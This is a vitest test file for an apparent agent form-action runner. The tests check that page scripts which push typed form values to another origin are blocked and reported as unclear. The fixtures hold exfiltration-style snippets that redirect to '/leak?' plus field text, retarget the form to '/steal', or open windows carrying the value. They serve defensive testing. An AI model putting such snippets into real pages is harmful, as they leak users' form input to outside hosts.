import { runAction } from '@handrail/page';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { type AnnotatedSite, startAnnotatedSite } from '../../testing/annotated-site.ts';

let site: AnnotatedSite;
beforeAll(async () => {
  site = await startAnnotatedSite();
});
afterAll(() => site.close());

const form = `<form method="post" action="/save" data-agent-kind="action" data-agent-action="note.add">
  <input name="text" data-agent-kind="field" data-agent-field="text"><button>Add</button>
  <p role="status" data-agent-kind="status"></p></form><script src="/page.js"></script>`;

/** The same server under another name is another origin. */
async function run(code: (elsewhere: string) => string, statusLimit = 300) {
  const elsewhere = site.origin.replace('127.0.0.1', 'localhost');
  const { execution, page } = await site.open('/', {
    '/': form,
    '/page.js': `const form = document.forms[0];\n${code(elsewhere)}`,
    'POST /save': 'Saved',
  });
  const outcome = await runAction({ ...execution, statusLimit }, 'note.add', { text: 'hi' });
  return { outcome, page };
}
const asked = () => site.requests;

describe('a page that leads to another origin', () => {
  test.each([
    [
      'goes there',
      (to: string) => `form.text.oninput = () => { location = '${to}/leak?' + form.text.value; };`,
    ],
    [
      'sends its form there',
      (to: string) => `form.text.oninput = () => { form.action = '${to}/leak'; form.submit(); };`,
    ],
  ])('when a field is filled and %s is stopped, and it is unclear what happened', async (_what, code) => {
    const { outcome } = await run(code);
    expect(outcome).toMatchObject({ verdict: 'unclear', error: { reason: 'OUTCOME_UNCLEAR' } });
    expect(outcome.error?.detail).toMatch(/another origin/);
    expect(asked()).toEqual([]);
  });

  test('some time after a field was filled is called unclear', async () => {
    // The form itself goes nowhere: the page that it leads to would end the script before it leaves.
    const { outcome } = await run(
      (to) => `form.onsubmit = (event) => event.preventDefault();
        form.text.oninput = () => setTimeout(() => { location = '${to}/leak'; }, 60);`,
      30_000,
    );
    expect(outcome).toMatchObject({ verdict: 'unclear', error: { reason: 'OUTCOME_UNCLEAR' } });
    expect(outcome.error?.detail).toMatch(/another origin/);
  });

  test('when its form is sent has sent nothing', async () => {
    const { outcome } = await run((to) => `form.onsubmit = () => { form.action = '${to}/steal'; };`);
    expect(outcome).toMatchObject({ verdict: 'unclear', error: { reason: 'OUTCOME_UNCLEAR' } });
    expect(outcome.evidence.map(({ kind }) => kind)).not.toContain('request');
    expect(asked()).toEqual([]);
  });

  test.each([
    ['a window', (to: string) => `window.open('${to}/pop?x=' + form.text.value);`],
    [
      'a form in a window',
      (
        to: string,
      ) => `const other = form.cloneNode(true); other.action = '${to}/pop'; other.target = '_blank';
        document.body.append(other); other.submit();`,
    ],
  ])('in %s does not get there', async (_what, code) => {
    const { outcome, page } = await run(
      (to) => `form.onsubmit = (event) => { event.preventDefault(); ${code(to)} };`,
    );
    expect(outcome.error?.reason).toBe('OUTCOME_UNCLEAR');
    expect(outcome.error?.detail).toMatch(/window/);
    await expect.poll(() => page.context().pages().length).toBe(1);
    expect(asked()).toEqual([]);
  });

  test('and opens a window of its own site lets that one load', async () => {
    await run(() => `form.onsubmit = (event) => { event.preventDefault(); window.open('/receipt'); };`);
    await expect.poll(asked).toEqual(['GET /receipt']);
  });
});

test('a page that asks before it is left has sent nothing', async () => {
  const { outcome } = await run(
    () =>
      `addEventListener('beforeunload', (event) => { event.preventDefault(); event.returnValue = 'x'; });`,
  );
  expect(outcome).toMatchObject({ verdict: 'unclear', error: { reason: 'OUTCOME_UNCLEAR' } });
  expect(outcome.evidence.map(({ kind }) => kind)).not.toContain('request');
  expect(outcome.evidence).toContainEqual({ kind: 'guarded', supports: 'neither' });
  expect(asked()).toEqual([]);
});
